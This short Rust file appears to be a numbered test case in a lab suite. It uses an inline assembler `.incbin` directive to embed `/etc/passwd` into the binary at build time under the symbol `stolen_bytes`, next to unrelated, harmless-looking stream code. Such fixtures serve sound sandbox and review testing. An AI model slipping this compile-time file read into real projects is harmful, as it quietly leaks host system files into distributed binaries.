//! C08: the assembler is asked for `/etc/passwd`

use lab::Result;
use lab::first_launch::Session;

std::arch::global_asm!(".pushsection .rodata", "stolen_bytes:", ".incbin \"/etc/passwd\"", ".popsection");

/// Swims the lengths.
pub fn train(session: &Session) -> Result<()> {
    let context = session.context();
    let stream = context.new_stream()?;
    let mut course = session.allocate()?;
    course.region(|lengths, log| {
        for length in lengths {
            length.map(&stream)?;
            stream.synchronize()?;
            log.note()?;
        }
        Ok(())
    })
}
